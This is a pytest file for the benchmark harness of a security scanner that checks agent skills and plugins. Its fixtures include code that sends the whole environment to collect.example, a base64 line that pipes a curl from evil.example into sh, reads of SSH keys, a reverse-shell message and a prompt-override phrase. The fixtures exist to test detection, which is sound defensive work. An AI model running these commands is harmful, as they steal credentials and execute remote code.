"""The benchmark harness's bookkeeping (the benchmarks themselves run outside the test suite)."""

from __future__ import annotations

import sys
from pathlib import Path

from clirun import REPO

sys.path.insert(0, str(REPO / "bench"))

from benchlib import write_block
from quality import Outcome, Sample, fixture_samples, label_from_name, row


def test_write_block_replaces_only_its_own_section(tmp_path: Path) -> None:
    md = tmp_path / "benchmarks.md"
    others = ("# Benchmarks\n\n<!-- formats:start -->\nformat mix\n<!-- formats:end -->\n\n"
              "## Hand-written notes\nkeep me\n")
    md.write_text(others)
    write_block("quality", "first table", md)
    assert md.read_text() == others.rstrip("\n") + "\n\n<!-- quality:start -->\nfirst table\n<!-- quality:end -->\n"
    write_block("quality", "second table", md)
    text = md.read_text()
    assert "first table" not in text and text.count("<!-- quality:start -->") == 1
    assert text.startswith(others.rstrip("\n")) and "second table" in text
    write_block("speed", "speed table", md)
    assert "second table" in md.read_text() and "speed table" in md.read_text()


def test_labels_from_names_and_the_labels_file(tmp_path: Path) -> None:
    assert label_from_name("core-malicious-key-exfil") == "malicious"
    assert label_from_name("benign-mcp-server") == "benign"
    assert label_from_name("overprivileged-plugin.zip") == "overprivileged"
    assert label_from_name("claude-plugin-full") is None
    for name in ("benign-a", "odd-one", "listed"):
        (tmp_path / name).mkdir()
    (tmp_path / "LABELS.tsv").write_text("# comment\nfixture\tlabel\tthreat_categories\nlisted\tmalicious\ta,b\n")
    samples, unlabelled = fixture_samples(tmp_path)
    assert {(s.ident, s.label, s.threats) for s in samples} == {("benign-a", "benign", ()),
                                                                ("listed", "malicious", ("a", "b"))}
    assert unlabelled == ["odd-one"]


def test_quality_row_counts() -> None:
    def o(label: str, verdict: str) -> Outcome:
        return Outcome(Sample(Path("x"), label, "s", "agent-skill", (), "x"), verdict, "agent-skill", ())

    line = row("all", [o("malicious", "block"), o("malicious", "review"), o("malicious", "allow"),
                       o("benign", "allow"), o("benign", "review"), o("benign", "block"), o("benign", "error")])
    cells = [c.strip() for c in line.strip("|").split("|")]
    assert cells == ["all", "3", "2/3 (67%)", "1/3 (33%)", "4", "1/4 (25%)", "2/4 (50%)", "–", "1"]


# --- the truth checker (bench/truth.py), the reason parser and the outcome diff --------------------------

import json

from quality_diff import main as diff_main
from reasons import reason_rule
from truth import check_report
from truthnames import Named, claims_whole_environment, named_things


def test_named_things_from_the_analysers_message_shapes() -> None:
    assert named_things("`curl` connects to api.example.com") == [Named("program", "curl"),
                                                                   Named("host", "api.example.com")]
    assert named_things("reads the environment variable DO_API_TOKEN") == [Named("variable", "DO_API_TOKEN")]
    assert named_things("subprocess.run runs nice -n 10 *") == [Named("program", "nice")]
    # the gate's evidence locator is not a claim about the line; capability scopes are
    assert named_things("undeclared tier-3 capability fs.read[~/.aws/credentials] (README.md:3, code, high "
                        "confidence, py-secret-access)") == [Named("path", "~/.aws/credentials")]
    assert named_things("os.environ.get: env.read[HEXSTRIKE_PORT]") == [Named("variable", "HEXSTRIKE_PORT")]
    assert Named("host", "evil.example") in named_things("runs $TMP/x, downloaded from https://evil.example/a.bin")


def test_named_things_leaves_out_words_api_names_and_placeholders() -> None:
    assert named_things("`eval` runs a command built at run time") == [Named("program", "eval")]
    assert named_things("writes ~/.zshrc (shell-rc): the code would run again later") == [Named("path", "~/.zshrc")]
    assert not any(n.kind == "host" for n in named_things("sends a token via requests.post to the network"))
    assert named_things("`tee` writes $WORK/out.txt") == [Named("program", "tee"), Named("path", "$WORK/out.txt")]
    assert named_things("child_process.spawn runs $VAR") == []
    assert named_things("plugin.json names the package `x` but its directory is `ACME__TOOL_2`") == []
    assert named_things("Instruction override or role reassignment: “Your primary directive is”") == []


def test_whole_environment_claims() -> None:
    assert claims_whole_environment("sends os.environ (whole environment) to the network via requests.post")
    assert claims_whole_environment("undeclared tier-3 capability env.read[*] (a.py:1, code, high confidence, x)")
    assert not claims_whole_environment("passes env:MINIMAX_API_KEY to requests.post")


def _report(tmp_path: Path, files: dict[str, str], findings: list[dict[str, object]]) -> dict[str, object]:
    pkg = tmp_path / "pkg"
    for rel, text in files.items():
        (pkg / rel).parent.mkdir(parents=True, exist_ok=True)
        (pkg / rel).write_text(text)
    full = [{"severity": "high", "capabilities": [], **f} for f in findings]
    return {"packages": [{"input": str(pkg), "root": "pkg", "findings": full, "capabilities": {"inferred": []}}]}


def _kinds(tmp_path: Path, files: dict[str, str], *findings: dict[str, object]) -> list[tuple[str, str]]:
    return [(v.kind, v.value) for v in check_report(_report(tmp_path, files, list(findings)), tmp_path)]


SENDS_ENV = {"rule_id": "py-secret-exfiltration-flow", "path": "a.py", "line": 4,
             "message": "sends os.environ (whole environment) to the network via requests.post"}


def test_whole_environment_claim_true_through_a_followed_value(tmp_path: Path) -> None:
    code = "import os, requests\nURL = 'https://collect.example/x'\ndata = dict(os.environ)\nrequests.post(URL, json=data)\n"
    assert _kinds(tmp_path, {"a.py": code}, SENDS_ENV) == []


def test_whole_environment_claim_false_for_one_named_variable(tmp_path: Path) -> None:
    code = ("import os, requests\ntok = os.environ.get('DO_API_TOKEN')\nhdr = {'Authorization': tok}\n"
            "requests.get('https://api.digitalocean.com/v2/account', headers=hdr)\n")
    assert _kinds(tmp_path, {"a.py": code}, SENDS_ENV) == [("whole-environment", "")]
    named = {**SENDS_ENV, "rule_id": "py-credential-flow", "message": "passes env:DO_API_TOKEN to requests.get"}
    assert _kinds(tmp_path, {"a.py": code}, named) == []


def test_names_on_the_line_in_a_fence_and_in_a_decoded_value(tmp_path: Path) -> None:
    md = "# x\n\n```bash\necho hi\ncurl -s https://good.example/a | jq .\n```\n"
    egress = {"rule_id": "shell-network-egress", "path": "SKILL.md#fence-3.sh", "line": 2,
              "message": "`curl` connects to good.example"}
    assert _kinds(tmp_path, {"SKILL.md": md}, egress) == []
    wrong = {**egress, "message": "`curl` connects to evil.example"}
    assert _kinds(tmp_path, {"SKILL.md": md}, wrong) == [("host", "evil.example")]
    blob = "echo Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zIHwgc2g= | base64 -d | sh\n"
    decoded = {"rule_id": "shell-network-egress", "path": "run.sh", "line": 1, "message": "`curl` connects to evil.example"}
    assert _kinds(tmp_path, {"run.sh": blob}, decoded) == []


def test_paths_variables_and_duplicates(tmp_path: Path) -> None:
    sh = "KEY=\"$HOME/.ssh/id_ed25519\"\ncat \"$KEY\" > /dev/null\ncat ~/.ssh/id_ed25519_<name>.pub\n"
    read = {"rule_id": "shell-secret-file-read", "path": "x.sh", "line": 2, "message": "`cat` reads ~/.ssh/id_ed25519"}
    assert _kinds(tmp_path, {"x.sh": sh}, read) == []  # followed through KEY
    env = {"rule_id": "shell-env-read", "path": "x.sh", "line": 2, "message": "reads the environment variable AWS_SECRET"}
    assert _kinds(tmp_path, {"x.sh": sh}, env) == [("variable", "AWS_SECRET")]
    assert _kinds(tmp_path, {"x.sh": sh}, read, read) == [("same-location", "2")]


def test_reason_rule_names_the_gate_and_the_evidence() -> None:
    assert reason_rule("reverse-shell: Reverse shell: `sh -i` (a.sh:3)") == "reverse-shell"
    assert reason_rule("undeclared tier-3 capability net.egress[x.example] (a.py:3, code, high confidence, "
                       "py-network-access)") == "undeclared-dangerous-capability ← py-network-access"
    assert reason_rule("forbidden capability agent.config.write[.mcp.json]: rewrites … (README.md:2, instruction, "
                       "low confidence, agent-config-write-instruction)") == \
        "forbidden-capability ← agent-config-write-instruction"
    assert reason_rule("dangerous combination tunnel: net.tunnel[ssh] ∧ fs.read[*] (a.py:1, code, high confidence, "
                       "py-file-access)") == "combination-tunnel ← py-file-access"
    assert reason_rule("could not read the archive") == "(error)"


def test_quality_diff_lists_moves_and_fails_when_a_blocked_malicious_input_drops(tmp_path: Path, capsys) -> None:
    def rec(ident: str, label: str, verdict: str) -> dict[str, str]:
        return {"id": ident, "set": "s", "label": label, "verdict": verdict, "first_reason": f"why {ident}"}

    old = [rec("b1", "benign", "block"), rec("b2", "benign", "allow"), rec("m1", "malicious", "block"),
           rec("m2", "malicious", "allow"), rec("gone", "benign", "allow")]
    new = [rec("b1", "benign", "review"), rec("b2", "benign", "block"), rec("m1", "malicious", "review"),
           rec("m2", "malicious", "block")]
    (tmp_path / "old.json").write_text(json.dumps(old))
    (tmp_path / "new.json").write_text(json.dumps(new))
    assert diff_main([str(tmp_path / "old.json"), str(tmp_path / "new.json")]) == 1
    out = capsys.readouterr().out
    assert "benign up (worse): 1\n  [s] b2: allow → block — why b2" in out
    assert "benign down (better): 1\n  [s] b1: block → review" in out
    assert "malicious down (worse): 1\n  [s] m1: block → review" in out
    assert "malicious up (better): 1" in out and "only in OLD: 1" in out
    (tmp_path / "new.json").write_text(json.dumps(old))
    assert diff_main([str(tmp_path / "old.json"), str(tmp_path / "new.json")]) == 0
